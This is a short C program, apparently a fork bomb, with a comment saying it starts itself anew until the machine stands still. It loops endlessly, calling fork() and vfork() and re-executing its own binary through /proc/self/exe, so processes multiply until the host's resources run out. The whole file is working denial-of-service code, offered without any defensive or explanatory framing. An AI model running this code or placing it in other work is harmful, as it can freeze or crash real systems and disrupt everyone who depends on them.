// Starts itself anew, twice each time, until the machine stands still. Contained: as the fork bomb.
#define _GNU_SOURCE
#include <unistd.h>

int main(int count, char **arguments)
{
    (void)count;
    for (;;) {
        fork();
        if (vfork() == 0) {
            execv("/proc/self/exe", arguments);
            _exit(1);
        }
    }
}
